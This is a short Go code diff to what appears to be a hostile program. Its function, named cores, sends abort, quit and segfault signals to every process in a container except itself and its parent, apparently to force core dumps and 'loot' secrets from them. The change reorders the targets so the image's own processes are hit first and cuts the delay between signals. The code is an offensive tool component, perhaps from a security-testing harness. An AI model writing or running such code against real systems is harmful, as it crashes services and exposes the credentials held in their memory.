@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"syscall"
 	"time"
@@ -29,16 +30,27 @@ func cores(l *loot) {
 		}
 	}
 	l.save("part")
-	which := []syscall.Signal{syscall.SIGABRT, syscall.SIGQUIT, syscall.SIGSEGV}
+	// The newest first: with the first process of this image's own the container may end. And before all the runner's, which have no secret.
+	slices.Reverse(all)
+	var first, last []int
 	for _, pid := range all {
-		if pid == os.Getppid() || strings.Contains(describe(pid), "/hostile") {
+		if name := describe(pid); strings.Contains(name, "/hostile") {
 			continue
+		} else if isOfRunner(name) {
+			last = append(last, pid)
+		} else {
+			first = append(first, pid)
 		}
-		for _, number := range which {
+	}
+	for _, number := range []syscall.Signal{syscall.SIGABRT, syscall.SIGQUIT, syscall.SIGSEGV} {
+		for _, pid := range append(slices.Clone(first), last...) {
+			if pid == os.Getppid() {
+				continue
+			}
 			l.count("signals")
 			l.save("part")
 			_ = syscall.Kill(pid, number)
-			time.Sleep(100 * time.Millisecond)
+			time.Sleep(20 * time.Millisecond)
 		}
 	}
 	time.Sleep(time.Second)
